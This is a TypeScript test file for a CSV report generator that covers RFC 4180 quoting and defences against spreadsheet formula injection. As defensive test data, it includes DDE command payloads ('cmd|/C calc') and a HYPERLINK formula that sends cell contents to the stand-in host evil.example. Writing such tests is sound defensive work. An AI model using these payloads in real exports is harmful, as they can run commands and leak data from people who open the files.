import { describe, expect, it } from 'vitest';
import { reportFromScan, reportFromSession } from '../../src-shared/report/build';
import { csvCell, renderCsv } from '../../src-shared/report/csv';
import { REPORT_OPTIONS, sampleScan, sampleSession } from './fixtures';

/** A strict RFC 4180 reader: CRLF records, quoted fields with doubled quotes; throws on anything else. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let i = 0;
  while (i < text.length) {
    let field = '';
    if (text[i] === '"') {
      i++;
      for (;;) {
        if (i >= text.length) throw new Error('unterminated quoted field');
        if (text[i] === '"') {
          if (text[i + 1] === '"') {
            field += '"';
            i += 2;
            continue;
          }
          i++;
          break;
        }
        field += text[i++];
      }
    } else {
      while (i < text.length && text[i] !== ',' && text[i] !== '\r' && text[i] !== '\n') {
        if (text[i] === '"') throw new Error(`bare quote in an unquoted field at ${i}`);
        field += text[i++];
      }
    }
    row.push(field);
    if (text[i] === ',') {
      i++;
    } else if (text.startsWith('\r\n', i)) {
      rows.push(row);
      row = [];
      i += 2;
    } else if (i < text.length) {
      throw new Error(`expected , or CRLF at ${i}, found ${JSON.stringify(text[i])}`);
    }
  }
  if (row.length > 0) throw new Error('last record not ended by CRLF');
  return rows;
}

describe('CSV report', () => {
  it('has a header and one row per server, every row as wide as the header', () => {
    const report = reportFromSession(sampleSession(), REPORT_OPTIONS);
    const text = renderCsv(report);
    expect(text.startsWith('\uFEFF')).toBe(true);
    const rows = parseCsv(text.slice(1));
    const [header, ...body] = rows;
    expect(header?.[0]).toBe('server');
    expect(body.map(r => r[0])).toEqual(report.servers.map(s => s.name));
    for (const row of body) expect(row).toHaveLength(header?.length ?? -1);
    const ex01 = Object.fromEntries((header ?? []).map((h, i) => [h, body[0]?.[i]]));
    expect(ex01).toMatchObject({ server: 'EX01', severity: 'critical', build: '15.2.1118.25', 'eems verdict': 'Blocked by the certificate change', 'next action': 'Install Exchange 2019 CU15' });
    expect(ex01['eems explanation']).toContain(', older than the March 2023'); // a quoted field with commas survives
    const ex04 = body.find(r => r[0] === 'EX04');
    expect(ex04?.[2]).toBe('no');
  });

  it('quotes by RFC 4180 and guards cells a spreadsheet would run as formulas', () => {
    expect(csvCell('plain')).toBe('plain');
    expect(csvCell('a, b')).toBe('"a, b"');
    expect(csvCell('say "hi"')).toBe('"say ""hi"""');
    expect(csvCell('two\r\nlines')).toBe('"two\r\nlines"');
    expect(csvCell('=cmd|" /C calc"!A0')).toBe('"\'=cmd|"" /C calc""!A0"');
    for (const start of ['+', '-', '@', '\t', '\r']) expect(csvCell(`${start}SUM(A1)`).replace(/^"/, '').startsWith(`'${start}`)).toBe(true);
    expect(csvCell(-3)).toBe('-3');
    expect(csvCell(null)).toBe('');
  });

  it('a crafted server name or finding cannot become a formula', () => {
    const scan = sampleScan();
    const [first] = scan.servers;
    if (!first) throw new Error('fixture without servers');
    first.name = '=HYPERLINK("https://evil.example/?"&A1,"click")';
    first.findings[0] = { ...first.findings[0]!, severity: 'critical', title: '@SUM(1+1)*cmd|/C calc' };
    scan.summary.worstFirst = [];
    const rows = parseCsv(renderCsv(reportFromScan(scan, REPORT_OPTIONS)).slice(1));
    const row = rows.find(r => r[0]?.includes('HYPERLINK'));
    expect(row?.[0]).toBe('\'=HYPERLINK("https://evil.example/?"&A1,"click")');
    for (const cell of rows.flat()) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
  });
});
